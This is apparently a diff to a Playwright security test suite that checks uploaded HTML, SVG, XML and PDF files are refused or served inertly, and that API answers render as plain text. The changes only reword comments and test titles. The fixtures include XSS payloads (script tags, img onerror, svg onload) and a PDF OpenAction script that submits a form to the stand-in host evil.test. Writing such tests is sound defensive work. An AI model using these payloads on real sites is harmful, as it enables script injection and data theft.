@@ -7,7 +7,7 @@ const SCRIPT = '<script>window.ran = true; alert(1)</script><img src=x onerror="
 const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.ran = true; alert(3)"><script>alert(4)</script></svg>`;
 const PAGE = `<!doctype html><title>a page</title><b data-hostile>bold</b>${SCRIPT}`;
 const XML = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(5)</script></html>`;
-/** A document that opens a message if its reader runs its script. */
+/** A PDF that opens a message if the viewer runs its script. */
 const PDF = `%PDF-1.7
 1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(6); this.submitForm('https://evil.test/');)>>>>endobj
 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj
@@ -15,7 +15,7 @@ trailer<</Root 1 0 R>>
 `;
 const PNG = '\u0089PNG\r\n\u001a\n';
 
-/** Names, contents, and the types that the sending browser claims. */
+/** Names, contents, and the types that the browser sends. */
 const REFUSED: readonly (readonly [name: string, content: string, type: string])[] = [
   ['page.html', PAGE, 'text/html'],
   ['page.HTM', PAGE, 'application/octet-stream'],
@@ -47,7 +47,7 @@ const TAKEN: readonly (readonly [name: string, content: string, type: string])[]
   ['nothing said', PAGE, ''],
 ];
 
-/** Sends a file as browsers do; returns its signed address, or null if it was refused. */
+/** Uploads a file as browsers do. Returns its signed address, or null if the server refused it. */
 async function send(url: string, calls: Calls, gid: number, [name, content, type]: (typeof TAKEN)[number]) {
   const { token } = await calls.person('submitter');
   const form = new FormData();
@@ -60,7 +60,7 @@ async function send(url: string, calls: Calls, gid: number, [name, content, type
   return new URL(data[0]?.url ?? '', url).pathname;
 }
 
-/** Scripts that run reveal themselves by a browser dialog. */
+/** Records browser dialogs, because each hostile script opens one. */
 function listen(page: Page): string[] {
   const ran: string[] = [];
   page.on('dialog', (dialog) => {
@@ -71,7 +71,7 @@ function listen(page: Page): string[] {
 }
 
 // Covers V3.2.1, Fault.23, T10
-test('files that hold pages and scripts are refused, or handed over without being shown', async ({
+test('files with HTML or scripts are refused, or downloaded and never shown', async ({
   visit,
   calls,
   sample,
@@ -91,7 +91,7 @@ test('files that hold pages and scripts are refused, or handed over without bein
     expect(page.url(), file[0]).toBe('about:blank');
   }
 
-  // Nor does a page of the application run such a file as its own script.
+  // A page of the application does not run such a file as a script either.
   await page.goto('/imprint');
   await untilQuiet(page);
   for (const address of addresses) {
@@ -111,7 +111,7 @@ test('files that hold pages and scripts are refused, or handed over without bein
 });
 
 // Covers V3.2.1, Fault.37
-test('an answer of the API that is opened by its address is text, whatever people wrote into it', async ({
+test('an API answer that is opened in the browser is shown as text', async ({
   visit,
   calls,
 }) => {
@@ -143,7 +143,7 @@ test('an answer of the API that is opened by its address is text, whatever peopl
     await page.goto(path);
     expect([await page.evaluate('document.contentType'), path]).toEqual(['application/json', path]);
     expect(await page.locator('[data-hostile], script, img').count(), path).toBe(0);
-    // The page shows the text as JSON writes it: none of it has become an element.
+    // The page shows the text as escaped JSON, so nothing became an element.
     const text = await page.locator('body').innerText();
     expect([text.includes(JSON.stringify(held).slice(1, -1)), path]).toEqual([true, path]);
   }
